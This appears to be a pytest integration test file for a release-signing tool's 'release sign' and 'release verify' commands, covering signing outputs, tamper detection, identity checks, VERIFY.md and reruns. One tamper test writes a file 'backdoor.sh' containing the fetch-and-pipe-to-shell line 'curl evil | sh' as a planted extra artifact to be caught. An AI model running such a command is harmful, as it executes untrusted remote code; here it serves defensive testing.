"""`sealtrail release sign` / `release verify` against a local instance (issue 15, items 2-3).

A release signed in a simulated GitHub Actions job (GITHUB_* variables, an event file, the
job's token minted by the instance's issuer) carries a bundle per file, a signed SHA256SUMS,
one provenance and VERIFY.md; `release verify` passes on it and fails naming the file, with
its code, when one artifact is modified, removed or added, or the identity differs; VERIFY.md's
commands run and pass. A rerun after a failure signs only what is missing.
"""

from __future__ import annotations

import json
import re
import shlex
import shutil
import subprocess
from pathlib import Path
from typing import Any, Iterator

import pytest

from tests.integration.instance_server import BIN, InstanceServer

pytestmark = pytest.mark.integration

SEALTRAIL = str(BIN / "sealtrail")
REPO = "acme/app"
WORKFLOW = ".github/workflows/release.yml"
SHA = "0123456789abcdef0123456789abcdef01234567"
TAG = "refs/tags/v1.2.3"
REPO_ID, OWNER_ID, RUN_ID = "4242", "77", "9001"
FILES = ("app-1.2.3.tar.gz", "app-1.2.3-py3-none-any.whl", "app-linux-amd64", "app.exe")


@pytest.fixture(scope="module")
def instance(tmp_path_factory: pytest.TempPathFactory) -> Iterator[InstanceServer]:
    server = InstanceServer(tmp_path_factory.mktemp("release") / "sealtrail")
    server.init()
    server.start()
    yield server
    server.stop()


def github_job(instance: InstanceServer, directory: Path) -> tuple[dict[str, str], str]:
    """The variables and identity token of a tag push job of acme/app."""
    from sealtrail.server.instance import Instance

    event = directory / "event.json"
    event.write_text(json.dumps({"ref": TAG, "after": SHA, "base_ref": None,
                                 "repository": {"full_name": REPO, "id": int(REPO_ID)}}))
    env = {"GITHUB_ACTIONS": "true", "CI": "true", "GITHUB_SERVER_URL": "https://github.com",
           "GITHUB_REPOSITORY": REPO, "GITHUB_REF": TAG, "GITHUB_SHA": SHA,
           "GITHUB_WORKFLOW_REF": f"{REPO}/{WORKFLOW}@{TAG}", "GITHUB_EVENT_NAME": "push",
           "GITHUB_EVENT_PATH": str(event), "GITHUB_RUN_ID": RUN_ID, "GITHUB_RUN_ATTEMPT": "1",
           "GITHUB_REPOSITORY_ID": REPO_ID, "GITHUB_REPOSITORY_OWNER_ID": OWNER_ID,
           "RUNNER_ENVIRONMENT": "github-hosted"}
    token = Instance(str(instance.directory)).builtin_issuer("github").mint_github_workflow(
        repository=REPO, workflow_path=WORKFLOW, ref=TAG, sha=SHA, event_name="push",
        repository_id=REPO_ID, repository_owner_id=OWNER_ID, run_id=RUN_ID, run_attempt=1)
    return env, token


def make_files(directory: Path, names: tuple[str, ...] = FILES) -> None:
    directory.mkdir(parents=True)
    for name in names:
        (directory / name).write_bytes(f"the contents of {name}\n".encode() * 3)


def sealtrail(*argv: str, env: dict[str, str] | None = None, cwd: Path | None = None
              ) -> subprocess.CompletedProcess[str]:
    done = subprocess.run([SEALTRAIL, *argv], capture_output=True, text=True, timeout=120,
                          env={**_clean_env(), **(env or {})}, cwd=cwd)
    assert "Traceback" not in done.stderr, done.stderr
    return done


def _clean_env() -> dict[str, str]:
    import os

    return {k: v for k, v in os.environ.items()
            if not k.startswith(("GITHUB_", "GITLAB_", "CI_")) and k != "CI"}


@pytest.fixture(scope="module")
def github_release(instance: InstanceServer, tmp_path_factory: pytest.TempPathFactory
                   ) -> tuple[Path, dict[str, str]]:
    """A release signed in a GitHub Actions job: provenance by default (in CI)."""
    job = tmp_path_factory.mktemp("job")
    env, token = github_job(instance, job)
    release = job / "dist"
    make_files(release)
    done = sealtrail("release", "sign", str(release), "--instance-dir", str(instance.directory),
                     "--identity-token", token, env=env)
    assert done.returncode == 0, done.stderr
    return release, env


def identity_flags(instance: InstanceServer) -> list[str]:
    return ["--certificate-identity", f"https://github.com/{REPO}/{WORKFLOW}@{TAG}",
            "--certificate-oidc-issuer", instance.url + "/oidc/github"]


def verify(instance: InstanceServer, release: Path, *extra: str, identity: list[str] | None = None
           ) -> tuple[int, dict[str, Any]]:
    done = sealtrail("release", "verify", str(release), *(identity or identity_flags(instance)),
                     "--source-uri", f"github.com/{REPO}", "--source-tag", "v1.2.3",
                     "--builder-id", f"https://github.com/{REPO}/{WORKFLOW}",
                     "--trusted-root", str(instance.trusted_root), "--json", *extra)
    return done.returncode, json.loads(done.stdout)


def copy(release: Path, tmp_path: Path) -> Path:
    target = tmp_path / "download"
    shutil.copytree(release, target)
    return target


def test_release_sign_writes_every_output(github_release: tuple[Path, dict[str, str]]) -> None:
    release, _ = github_release
    names = {p.name for p in release.iterdir()}
    assert names == {*FILES, *(f + ".sigstore.json" for f in FILES), "SHA256SUMS",
                     "SHA256SUMS.sigstore.json", "multiple.intoto.jsonl", "VERIFY.md"}
    # sha256sum's own format, checked by sha256sum itself.
    done = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=release, capture_output=True,
                          text=True)
    assert done.returncode == 0 and done.stdout.count(": OK") == len(FILES), done.stdout


def test_release_verify_passes_with_every_check(instance: InstanceServer,
                                                github_release: tuple[Path, dict[str, str]]
                                                ) -> None:
    release, _ = github_release
    code, result = verify(instance, release)
    assert code == 0, result
    assert result["ok"] is True and result["failed"] == []
    rows = {row["name"]: row for row in result["results"]}
    assert set(rows) == {*FILES, "SHA256SUMS", "multiple.intoto.jsonl"}
    assert rows["SHA256SUMS"]["kind"] == "checksums"
    assert rows["multiple.intoto.jsonl"]["kind"] == "provenance"
    assert "SLSA Build L2" in rows["multiple.intoto.jsonl"]["message"]
    for name in FILES:
        assert rows[name] == {"name": name, "kind": "artifact", "ok": True, "code": None,
                              "message": None, "identity": identity_flags(instance)[1],
                              "issuer": instance.url + "/oidc/github",
                              "log_index": rows[name]["log_index"]}
        assert isinstance(rows[name]["log_index"], int)


@pytest.mark.parametrize("change, name, code", [
    ("modify", FILES[1], "ARTIFACT_MODIFIED"),
    ("remove", FILES[2], "ARTIFACT_MISSING"),
    ("add", "backdoor.sh", "ARTIFACT_EXTRA"),
])
def test_release_verify_names_the_file(instance: InstanceServer,
                                       github_release: tuple[Path, dict[str, str]],
                                       tmp_path: Path, change: str, name: str, code: str) -> None:
    release = copy(github_release[0], tmp_path)
    if change == "modify":
        with open(release / name, "ab") as handle:
            handle.write(b"!")
    elif change == "remove":
        (release / name).unlink()
    else:
        (release / name).write_text("curl evil | sh\n")
    code_, result = verify(instance, release)
    assert code_ == 1
    assert result["failed"] == [name] or (change == "modify" and name in result["failed"])
    row = next(r for r in result["results"] if r["name"] == name)
    assert row["ok"] is False and row["code"] == code and name in row["message"]
    # The text output names it too.
    done = sealtrail("release", "verify", str(release), *identity_flags(instance),
                     "--trusted-root", str(instance.trusted_root))
    assert done.returncode == 1
    assert f"FAILED {name}  {code}: " in done.stdout
    assert f"{name} ({code})" in done.stderr


def test_release_verify_modified_provenance_subjects_fail(
        instance: InstanceServer, github_release: tuple[Path, dict[str, str]],
        tmp_path: Path) -> None:
    """A file replaced together with its SHA256SUMS line: the list's bundle and the file's
    bundle both fail, and so does the provenance."""
    release = copy(github_release[0], tmp_path)
    (release / FILES[0]).write_text("replaced\n")
    import hashlib

    digest = hashlib.sha256(b"replaced\n").hexdigest()
    lines = [(digest + "  " + FILES[0]) if line.endswith("  " + FILES[0]) else line
             for line in (release / "SHA256SUMS").read_text().splitlines()]
    (release / "SHA256SUMS").write_text("\n".join(lines) + "\n")
    code, result = verify(instance, release)
    assert code == 1
    codes = {row["name"]: row["code"] for row in result["results"] if not row["ok"]}
    assert codes == {"SHA256SUMS": "ARTIFACT_MODIFIED", FILES[0]: "ARTIFACT_MODIFIED",
                     "multiple.intoto.jsonl": "ErrorMismatchHash"}, codes


def test_release_verify_another_identity_fails(instance: InstanceServer,
                                              github_release: tuple[Path, dict[str, str]]
                                              ) -> None:
    release, _ = github_release
    other = ["--certificate-identity",
             f"https://github.com/{REPO}/.github/workflows/other.yml@{TAG}",
             "--certificate-oidc-issuer", instance.url + "/oidc/github"]
    code, result = verify(instance, release, identity=other)
    assert code == 1
    failed = {row["name"]: row["code"] for row in result["results"] if not row["ok"]}
    assert failed == {name: "SIGNED_BY_OTHER_IDENTITY" for name in (*FILES, "SHA256SUMS")}


def test_verify_md_commands_run_and_pass(instance: InstanceServer,
                                         github_release: tuple[Path, dict[str, str]],
                                         tmp_path: Path) -> None:
    release = copy(github_release[0], tmp_path)
    text = (release / "VERIFY.md").read_text()
    blocks = re.findall(r"```sh\n(.*?)```", text, re.S)
    lines = [line for block in blocks for line in block.splitlines()]
    assert any(line.startswith("sealtrail release verify . ") for line in lines), text
    # Filled in: identity, issuer, source, tag and builder.
    for fact in (f"https://github.com/{REPO}/{WORKFLOW}@{TAG}", instance.url + "/oidc/github",
                 f"--source-uri github.com/{REPO}", "--source-tag v1.2.3",
                 f"--builder-id https://github.com/{REPO}/{WORKFLOW}"):
        assert fact in text, fact
    env = {"TRUSTED_ROOT": str(instance.trusted_root)}
    ran = []
    for line in lines:
        if line.startswith("export "):
            continue  # the self-hosted root's variable, set here instead
        tool = shlex.split(line)[0]
        if tool in ("sealtrail", "sha256sum") or shutil.which(tool):
            argv = line.replace("sealtrail ", SEALTRAIL + " ", 1) if tool == "sealtrail" else line
            done = subprocess.run(["sh", "-c", argv], cwd=release, capture_output=True,
                                  text=True, env={**_clean_env(), **env}, timeout=120)
            assert done.returncode == 0, (line, done.stdout, done.stderr)
            ran.append(tool)
    assert ran.count("sealtrail") >= 2 and "sha256sum" in ran, ran  # release verify, verify-artifact
    # And the same commands fail once a file is changed.
    with open(release / FILES[3], "ab") as handle:
        handle.write(b"!")
    main = next(line for line in lines if line.startswith("sealtrail release verify"))
    done = subprocess.run(["sh", "-c", main.replace("sealtrail ", SEALTRAIL + " ", 1)],
                          cwd=release, capture_output=True, text=True,
                          env={**_clean_env(), **env}, timeout=120)
    assert done.returncode == 1 and FILES[3] in done.stdout


def _signed_and_kept(stderr: str) -> tuple[set[str], set[str]]:
    signed = set(re.findall(r"\] signed (\S+) \(log index", stderr))
    kept = set(re.findall(r"\] kept (\S+) \(", stderr))
    return signed, kept


def test_rerun_signs_only_what_is_missing(instance: InstanceServer, tmp_path: Path) -> None:
    """A run that stopped half-way (bundles of half the files gone, one left partial) or
    whose inputs changed (one file rebuilt): the rerun signs those and keeps the rest."""
    names = tuple(f"file-{i}.bin" for i in range(8))
    release = tmp_path / "dist"
    make_files(release, names)
    where = ["--instance-dir", str(instance.directory), "--no-provenance"]
    first = sealtrail("release", "sign", str(release), *where)
    assert first.returncode == 0, first.stderr
    assert _signed_and_kept(first.stderr) == ({*names, "SHA256SUMS"}, set())
    for name in names[:3]:
        (release / (name + ".sigstore.json")).unlink()
    partial = release / (names[3] + ".sigstore.json")
    partial.write_bytes(partial.read_bytes()[:200])
    (release / names[4]).write_text("rebuilt\n")  # its bundle is now stale
    second = sealtrail("release", "sign", str(release), *where)
    assert second.returncode == 0, second.stderr
    # SHA256SUMS changed with the rebuilt file, so it is signed again too.
    assert _signed_and_kept(second.stderr) == ({*names[:5], "SHA256SUMS"}, set(names[5:]))
    assert "kept 3 already signed" in second.stdout
    # A file dropped from the release: its old bundle is pointed out.
    (release / names[7]).unlink()
    dropped = sealtrail("release", "sign", str(release), *where)
    assert f"note: {names[7]}.sigstore.json is the bundle of no artifact" in dropped.stderr
    (release / (names[7] + ".sigstore.json")).unlink()
    names = names[:7]
    third = sealtrail("release", "sign", str(release), *where)
    assert _signed_and_kept(third.stderr) == (set(), {*names, "SHA256SUMS"})
    done = sealtrail("release", "verify", str(release), "--certificate-identity",
                     _signer_email(), "--certificate-oidc-issuer", instance.issuer,
                     "--trusted-root", str(instance.trusted_root), "--json")
    assert done.returncode == 0, done.stdout


def test_rerun_after_a_log_outage(instance: InstanceServer, tmp_path: Path) -> None:
    """The services stop answering: the run fails (exit 3) and writes what it finished;
    once they are back, a rerun completes the release."""
    names = tuple(f"pkg-{i}.tgz" for i in range(4))
    release = tmp_path / "dist"
    make_files(release, names)
    where = ["--instance-dir", str(instance.directory), "--no-provenance"]
    instance.stop()
    try:
        down = sealtrail("release", "sign", str(release), *where)
    finally:
        instance.start()
    assert down.returncode == 3, down.stderr
    assert not list(release.glob("*.sigstore.json"))
    up = sealtrail("release", "sign", str(release), *where)
    assert up.returncode == 0, up.stderr
    assert _signed_and_kept(up.stderr)[0] == {*names, "SHA256SUMS"}


def _signer_email() -> str:
    import getpass

    user = re.sub(r"[^A-Za-z0-9._+-]", "", getpass.getuser()).strip(".") or "signer"
    return f"{user}@localhost.localdomain"


def test_provenance_outside_github_is_refused(instance: InstanceServer, tmp_path: Path) -> None:
    release = tmp_path / "dist"
    make_files(release, FILES[:1])
    done = sealtrail("release", "sign", str(release), "--instance-dir", str(instance.directory),
                     "--provenance")
    assert done.returncode == 2
    assert "--provenance needs a GitHub Actions job" in done.stderr
    assert not list(release.glob("*.sigstore.json"))  # refused before anything was signed


def test_detached_outputs_verify_alone(instance: InstanceServer, tmp_path: Path) -> None:
    """--detached: cosign's .sig/.pem beside each file (a Rekor v1 entry), which `sealtrail
    verify --detached` checks without the bundle; a rerun keeps them and restores a lost one."""
    release = tmp_path / "dist"
    make_files(release, FILES[:2])
    where = ["--instance-dir", str(instance.directory), "--no-provenance", "--detached"]
    # An earlier run without --detached logged to Rekor v2 (the newest the instance offers):
    # those bundles cannot back a .sig/.pem pair, so --detached signs everything again.
    assert sealtrail("release", "sign", str(release), *where[:-1]).returncode == 0
    done = sealtrail("release", "sign", str(release), *where)
    assert done.returncode == 0, done.stderr
    assert _signed_and_kept(done.stderr) == ({*FILES[:2], "SHA256SUMS"}, set())
    for name in (*FILES[:2], "SHA256SUMS"):
        assert (release / (name + ".sig")).is_file() and (release / (name + ".pem")).is_file()
    signature = (release / (FILES[0] + ".sig")).read_bytes()
    (release / (FILES[0] + ".sig")).unlink()
    again = sealtrail("release", "sign", str(release), *where)
    assert _signed_and_kept(again.stderr) == (set(), {*FILES[:2], "SHA256SUMS"})
    assert (release / (FILES[0] + ".sig")).read_bytes() == signature
    identity = ["--certificate-identity", _signer_email(), "--certificate-oidc-issuer",
                instance.issuer]
    for name in FILES[:2]:
        (release / (name + ".sigstore.json")).unlink()  # the pair alone
        checked = sealtrail("verify", str(release / name), "--detached", "--instance-dir",
                            str(instance.directory), *identity)
        assert checked.returncode == 0, checked.stderr
    done = sealtrail("release", "verify", str(release), *identity, "--trusted-root",
                     str(instance.trusted_root), "--json")
    assert done.returncode == 1
    assert {r["name"]: r["code"] for r in json.loads(done.stdout)["results"] if not r["ok"]} \
        == {name: "ARTIFACT_EXTRA" for name in FILES[:2]}


def test_release_verify_with_a_policy_file(instance: InstanceServer,
                                           github_release: tuple[Path, dict[str, str]],
                                           tmp_path: Path) -> None:
    """--policy: the provenance's source and trusted builder from a policy file; a policy
    expecting another tag fails the provenance row with slsa-verifier's error name."""
    release, _ = github_release
    builder = f"https://github.com/{REPO}/{WORKFLOW}"
    body = (f'version = 1\n\n[source]\nuri = "github.com/{REPO}"\ntag = "v1.2.3"\n\n'
            f'[[builder]]\nid = "{builder}"\nrefs = ["refs/tags/v*"]\nlevel = 2\n\n'
            f'[identity]\nissuer = "{instance.url}/oidc/github"\n')
    policy = tmp_path / "policy.toml"
    policy.write_text(body)
    flags = [*identity_flags(instance), "--trusted-root", str(instance.trusted_root), "--json"]
    done = sealtrail("release", "verify", str(release), "--policy", str(policy), *flags)
    assert done.returncode == 0, done.stdout
    other = tmp_path / "other.toml"
    other.write_text(body.replace('tag = "v1.2.3"', 'tag = "v9.9.9"'))
    done = sealtrail("release", "verify", str(release), "--policy", str(other), *flags)
    assert done.returncode == 1
    failed = {r["name"]: r["code"] for r in json.loads(done.stdout)["results"] if not r["ok"]}
    assert failed == {"multiple.intoto.jsonl": "ErrorMismatchTag"}
    # An issuer the flags contradict is a usage error.
    wrong = tmp_path / "wrong.toml"
    wrong.write_text(body.replace(f"{instance.url}/oidc/github", "https://elsewhere"))
    done = sealtrail("release", "verify", str(release), "--policy", str(wrong), *flags)
    assert done.returncode == 2 and "is not --certificate-oidc-issuer" in done.stderr
